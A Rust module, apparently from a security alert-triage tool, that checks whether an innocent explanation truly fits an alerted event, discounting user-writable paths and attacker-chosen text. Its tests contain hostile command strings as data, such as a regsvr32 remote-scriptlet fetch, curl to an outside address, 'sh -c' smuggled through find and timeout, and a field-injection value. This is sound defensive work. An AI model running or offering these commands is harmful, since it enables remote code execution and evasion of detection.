//! Decides whether an explanation applies to the alerted occurrence, because a dismissal depends on it
//! (docs/analyst.md):
//! - it must be about the alerted occurrence itself
//! - no program on the way to it may be in a place where any user can write
//! - it must hold without text that the recorded party can choose, such as a user agent or the text given to a shell

use std::collections::BTreeMap;

use casebook_protocol::{Bearing, Weight};
use casebook_trust::chosen;

use super::{Group, Pick, harmless};
use crate::analyst::behaviour::Behaviour;
use crate::analyst::link::{Kin, brought, process_keys};
use crate::analyst::rec::Rec;
use crate::analyst::{Case, account};
use casebook_evidence::facet::{Class, Facet, Facets, last};
use casebook_evidence::is_message;

/// The records that explain the alerted activity, each with the matching behaviours. If two sensors saw it, each
/// must show the explanation. An update that started a program does not explain the program's connections, and
/// an update that a desktop program started is not an explanation.
pub(super) fn explaining<'g, 'a>(group: &'g Group<'a>, case: &Case) -> Vec<(&'g Pick<'a>, Vec<&'static Behaviour>)> {
    let close = case.recs.iter().enumerate().filter(|(i, _)| case.links.kin(*i).is_some_and(|k| k <= Kin::Ancestor));
    if group.0.iter().map(|p| p.rec).chain(close.map(|(_, rec)| rec)).any(runs_from_anywhere) {
        return Vec::new();
    }
    let wire = wire(case);
    let alerted = group.0.iter().any(|p| p.kin == Kin::Core);
    let own: Vec<String> = case.alerted().iter().flat_map(|rec| process_keys(rec).0).collect();
    let starts_it =
        |rec: &Rec| rec.class() == Class::ProcessStart && process_keys(rec).0.iter().any(|k| own.contains(k));
    // Other actions of the actor explain nothing, even in the same moment. Only the start of the alerted process
    // counts, what it started if that can do no harm, and a download with its name on the network.
    let of_it = |p: &&Pick<'_>| match p.kin {
        Kin::Core => !wire || on_the_network(p.rec),
        Kin::Same if wire => alerted && on_the_network(p.rec),
        Kin::Same => starts_it(p.rec),
        Kin::Descendant => !wire && harmless::is(p.rec),
        Kin::Named => !wire && case.round > 1 && on_the_network(p.rec),
        _ => false,
    };
    group.0.iter().filter(of_it).map(|p| (p, held(p.rec, !wire))).filter(|(_, held)| !held.is_empty()).collect()
}

fn held(rec: &Rec, answers: bool) -> Vec<&'static Behaviour> {
    let innocent = |b: &&&'static Behaviour| b.bearing == Bearing::Exonerating && b.weight >= Weight::Moderate;
    let shown: Vec<&'static Behaviour> = rec.shows.iter().filter(innocent).copied().collect();
    if shown.is_empty() {
        return shown;
    }
    let mut facets = unchosen(rec, answers);
    if !privileged(rec) && rec.facets.get(Facet::Parent).is_some_and(|path| path.starts_with('/')) {
        // Any user can make some system tools run any command (`rpm --eval`, `make`).
        facets.set(Facet::Parent, None);
        facets.set(Facet::ParentCommand, None);
    }
    // The terms of an entry only select candidates.
    let whole = rec.facets.get(Facet::Text).unwrap_or(&rec.raw).to_lowercase();
    shown.into_iter().filter(|b| b.matches(&facets, &whole)).collect()
}

/// True if the alert is about a connection.
pub(super) fn wire(case: &Case) -> bool {
    case.alerted().iter().any(|rec| on_the_network(rec))
}

pub(super) fn on_the_network(rec: &Rec) -> bool {
    matches!(rec.class(), Class::NetworkConnection | Class::DnsQuery | Class::HttpRequest | Class::TlsSession)
}

/// True if the program or its parent is in a folder where any user may write.
fn runs_from_anywhere(rec: &Rec) -> bool {
    let anywhere = |path: &str| brought(path) && !of_protection(path);
    [Facet::Process, Facet::Parent].iter().any(|facet| rec.facets.get(*facet).is_some_and(anywhere))
}

/// The machine account: a user who can run programs under it could write anywhere. On the network it has the
/// name of its host.
fn privileged(rec: &Rec) -> bool {
    let host = rec.facets.get(Facet::Host).and_then(|host| host.split('.').next()).unwrap_or_default();
    let machine = |user: &str| {
        let name = user.rsplit('\\').next().unwrap_or_default().strip_suffix('$');
        name.is_some_and(|name| !name.is_empty() && name.eq_ignore_ascii_case(host))
    };
    rec.facets
        .get(Facet::User)
        .is_some_and(|user| user == "root" || user == "0" || account::of_system(user) || machine(user))
}

/// The facets without text that the recorded party chose. With `answers`, a request counts if the server had a
/// response.
fn unchosen(rec: &Rec, answers: bool) -> Facets {
    /// Fixed values of a sensor are shorter.
    const LONGEST: usize = 200;
    let fields = &rec.fields;
    let below = |outer: &str| fields.keys().any(|k| k.strip_prefix(outer).is_some_and(|rest| rest.starts_with('.')));
    let named = |path: &str| {
        // Text inside a text is as trustworthy as the outer one, except in messages of programs. Outer field
        // names decide who wrote it.
        let mut above = path;
        let mut clean = !chosen::by_name(path);
        while let Some((outer, _)) = above.rsplit_once('.') {
            let packed = fields.contains_key(outer) && !is_message(outer);
            clean &= !packed && (!chosen::by_name(outer) || is_message(outer));
            above = outer;
        }
        clean
    };
    let fixed = |value: &str| {
        let plain = value.len() <= LONGEST && value.chars().all(|c| c.is_ascii_graphic() || c == ' ');
        let few = value.split_whitespace().count() < 3 || of_the_system(value);
        plain && few && !value.contains(['"', '=', ';'])
    };
    let kept = fields.iter().filter(|(path, value)| !below(path) && named(path) && fixed(value));
    let mut kept: BTreeMap<String, String> = kept.map(|(path, value)| (path.clone(), value.clone())).collect();
    let known = |facet| rec.facets.get(facet);
    let place = |facet| known(facet).filter(|path| placed(path, rec)).map(str::to_owned);
    let (program, parent) = (place(Facet::Process), place(Facet::Parent));
    for (name, value) in [("process_executable", &program), ("parent_executable", &parent)] {
        kept.extend(value.as_ref().map(|value| (name.to_owned(), value.clone())));
    }
    let line = |(path, value): (&String, &String)| format!("\"{}\":\"{value}\"\n", last(path, 1));
    let text: String = kept.iter().map(line).collect();
    let mut facets = Facets::read(&kept, &text);
    facets.only(&rec.facets);
    for facet in [Facet::DomainName, Facet::Url, Facet::UserAgent, Facet::Object] {
        facets.set(facet, None);
    }
    facets.set(Facet::Command, meant(program.as_deref(), known(Facet::Command)).as_deref());
    facets.set(Facet::ParentCommand, meant(parent.as_deref(), known(Facet::ParentCommand)).as_deref());
    facets.set(Facet::Process, program.as_deref());
    facets.set(Facet::Parent, parent.as_deref());
    let answered = rec.class() == Class::HttpRequest && known(Facet::HttpStatus).is_some_and(|s| s.starts_with('2'));
    facets.set(Facet::Url, known(Facet::Url).filter(|url| answers && answered && !url.contains([' ', '"'])));
    facets.class = rec.facets.class;
    facets
}

/// Only an administrator can put a program there, or the machine itself runs it.
fn placed(path: &str, rec: &Rec) -> bool {
    let absolute = path.starts_with('/') || path.get(1..3) == Some(":\\");
    of_the_system(path) || absolute && !brought(path) && !path.contains("..") && privileged(rec)
}

/// Folders of Windows security software, inside folders where any user may write.
fn of_protection(path: &str) -> bool {
    path.to_ascii_lowercase()
        .get(1..)
        .is_some_and(|rest| rest.starts_with(r":\programdata\microsoft\windows defender\"))
}

/// Only an administrator can put a program there.
pub(super) fn of_the_system(path: &str) -> bool {
    const UNIX: [&str; 7] = ["/usr/", "/bin/", "/sbin/", "/lib/", "/lib64/", "/opt/", "/etc/"];
    const SCRIPTS: [&str; 2] = ["/var/lib/dpkg/info/", "/var/lib/dpkg/tmp.ci/"];
    const WINDOWS: [&str; 3] = [r":\windows\", r":\program files\", r":\program files (x86)\"];
    /// Folders below these paths where any user may create files.
    const OPEN: [&str; 6] = [
        r":\windows\temp\",
        r":\windows\tasks\",
        r":\windows\tracing\",
        r":\windows\system32\tasks\",
        r":\windows\system32\spool\drivers\color\",
        r":\windows\debug\wia\",
    ];
    if path.contains("..") || path.split_whitespace().count() > 6 {
        return false;
    }
    let lower = path.to_ascii_lowercase();
    let starts = |list: &[&str], text: &str| list.iter().any(|begin| text.starts_with(begin));
    let windows = lower.get(1..).is_some_and(|rest| starts(&WINDOWS, rest) && !starts(&OPEN, rest));
    let unix = starts(&UNIX, path) || starts(&SCRIPTS, path);
    (windows || unix && !brought(path)) || of_protection(path)
}

/// The part of a command that shows what was done. For a program whose arguments are not commands, the whole
/// command; for a shell, the system script that it runs. Otherwise only the program, because its arguments may
/// be commands.
fn meant(program: Option<&str>, command: Option<&str>) -> Option<String> {
    const SHELLS: [&str; 4] = ["sh", "bash", "dash", "python"];
    const SCRIPTED: [&str; 2] = ["cscript", "wscript"];
    /// Their arguments are modules, folders and settings, not commands.
    const PLAIN: [&str; 10] =
        ["modprobe", "modinfo", "lsmod", "kmod", "run-parts", "netsh", "dpkg", "dpkg-query", "udevadm", "wmiprvse"];
    let (program, command) = (program?, command?);
    let name = |path: &str| {
        let file = path.trim_matches('"').rsplit(['/', '\\']).next().unwrap_or_default().to_ascii_lowercase();
        file.strip_suffix(".exe").map_or_else(|| file.clone(), str::to_owned)
    };
    let mut words = command.split_whitespace();
    let (called, own) = (name(words.next()?), name(program));
    let plain = own.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let script = |word: Option<&str>| {
        word.map(|word| word.trim_matches('"'))
            .filter(|word| of_the_system(word))
            .map(|word| format!("{program} {word}"))
    };
    if SHELLS.contains(&plain) {
        let first = words.next();
        let first = if first == Some("-e") && plain != "python" { words.next() } else { first };
        return script(first).or_else(|| Some(program.to_owned()));
    }
    if SCRIPTED.contains(&plain) {
        return script(words.next()).or_else(|| Some(program.to_owned()));
    }
    // kmod is one program with many names.
    let whole = PLAIN.contains(&plain) && (called == own || own == "kmod" && PLAIN.contains(&called.as_str()));
    Some(if whole { command.to_owned() } else { program.to_owned() })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_is_meant_as_far_as_it_says_what_was_done() {
        let check = |program: &str, command: &str, expect: &str| {
            assert_eq!(meant(Some(program), Some(command)).as_deref(), Some(expect), "{program} {command}");
        };
        let whole = |program: &str, command: &str| check(program, command, command);
        let alone = |program: &str, command: &str| check(program, command, program);
        whole("/sbin/modprobe", "/sbin/modprobe --show-depends dm_mod");
        whole("/usr/bin/kmod", "modprobe -n dm_mod");
        whole(r"C:\Windows\System32\netsh.exe", r"netsh  trace stop");
        alone("/usr/bin/python3.11", "modprobe -n dm_mod");
        alone("/usr/bin/nc", "modprobe -n dm_mod");
        alone("/usr/bin/curl", "curl http://198.51.100.7/a eicar.com");
        alone("/usr/bin/timeout", "timeout 9d sh -c evil /usr/bin/apt x");
        alone("/usr/bin/find", "find /usr/share/initramfs-tools/hooks/ -exec sh -c evil {} +");
        check(
            "/usr/bin/dash",
            "/bin/sh /var/lib/dpkg/info/x.postinst configure",
            "/usr/bin/dash /var/lib/dpkg/info/x.postinst",
        );
        check("/usr/bin/dash", "/bin/sh -e /usr/sbin/mkinitramfs -o /boot/a", "/usr/bin/dash /usr/sbin/mkinitramfs");
        alone("/usr/bin/bash", "bash -c evil /etc/cron.daily/logrotate");
        alone("/usr/bin/bash", "bash /tmp/a /etc/cron.daily/logrotate");
        alone("/usr/bin/bash", "bash /dev/stdin /usr/bin/apt x");
        alone("/usr/bin/bash", "bash /proc/self/cwd/a.sh");
        alone("/usr/bin/perl", "perl -e /usr/,system(q(sh)),q(/usr/share/initramfs-tools/hooks/)");
        alone(r"C:\Windows\System32\cmd.exe", "cmd /c powershell -nop # netsh trace start");
        alone(r"C:\Windows\System32\regsvr32.exe", "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll");
    }

    #[test]
    fn only_an_administrator_puts_a_program_into_the_system() {
        for path in ["/usr/bin/apt", r"C:\Windows\System32\netsh.exe", r"C:\Program Files (x86)\A b\c.exe"] {
            assert!(of_the_system(path), "{path}");
        }
        for path in [
            r"C:\a\netsh.exe",
            r"C:\Windows\Temp\a.exe",
            r"C:\Windows\..\a\b.exe",
            "/run/user/1000/gitlab-runner",
            "/var/www/a",
            "/memfd:a",
            "/proc/self/exe",
            "/opt/../tmp/a",
        ] {
            assert!(!of_the_system(path), "{path}");
        }
    }

    #[test]
    fn what_a_client_says_of_itself_is_left_out() {
        let rec = Rec::with(&[
            ("userAgent", r#"{"invokedBy":"backup.amazonaws.com"}"#),
            ("userAgent.invokedBy", "backup.amazonaws.com"),
            ("userIdentity.arn", "arn:aws:sts::1:assumed-role/Dev/invokedBy=a.amazonaws.com"),
            ("requestObject.metadata.annotations.userprincipalname", "system:kube-controller-manager"),
            ("deviceDetail.displayName", "FIDO2 key"),
            ("dest", "x\",\"SourceImage\":\"C:\\Windows\\System32\\svchost.exe"),
            ("userIdentity.type", "AWSService"),
            ("SourceImage", r"C:\Program Files (x86)\Some Maker\Agent One\a.exe"),
            ("Image", r"C:\Users\mara\a.exe"),
        ]);
        let facets = unchosen(&rec, true);
        let text = facets.get(Facet::Text).unwrap_or_default().to_lowercase();
        for word in ["backup", "fido2", "invokedby", "kube", "svchost"] {
            assert!(!text.contains(word), "{word}: {text}");
        }
        assert_eq!(facets.get(Facet::PrincipalType), Some("AWSService"));
        assert!(text.contains("agent one"));
        assert_eq!((facets.get(Facet::Process), facets.get(Facet::User)), (None, None));
    }
}
